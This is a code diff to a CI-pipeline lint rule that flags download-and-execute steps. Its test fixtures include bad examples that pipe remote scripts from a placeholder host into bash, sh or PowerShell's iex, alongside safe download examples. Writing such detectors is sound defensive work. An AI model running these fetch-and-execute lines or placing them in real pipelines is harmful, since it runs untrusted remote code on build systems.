@@ -34,7 +34,7 @@ export const downloadExec: PipelineRule = {
     { path: '.gitlab-ci.yml', code: 'job:\n  script:\n    - bash <(wget -qO- https://example.org/i.sh)\n' },
     {
       path: '.github/workflows/ci.yml',
-      code: 'on: push\njobs:\n  a:\n    steps:\n      - run: sh -c "$(curl https://example.org/x)"\n',
+      code: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: sh -c "$(curl https://example.org/x)"\n',
     },
     {
       path: '.gitlab-ci.yml',
@@ -42,7 +42,7 @@ export const downloadExec: PipelineRule = {
     },
     {
       path: '.github/workflows/ci.yml',
-      code: 'on: push\njobs:\n  a:\n    steps:\n      - shell: pwsh\n        run: iwr https://example.org/i.ps1 | iex\n',
+      code: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - shell: pwsh\n        run: iwr https://example.org/i.ps1 | iex\n',
     },
   ],
   good: [
@@ -54,7 +54,7 @@ export const downloadExec: PipelineRule = {
     { path: '.gitlab-ci.yml', code: 'job:\n  script:\n    - curl -fsSL https://example.org/data.json | jq .name\n' },
     {
       path: '.github/workflows/ci.yml',
-      code: 'on: push\njobs:\n  a:\n    steps:\n      - run: curl -o tool.tgz https://example.org/tool.tgz\n',
+      code: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl -o tool.tgz https://example.org/tool.tgz\n',
     },
   ],
   checks: {
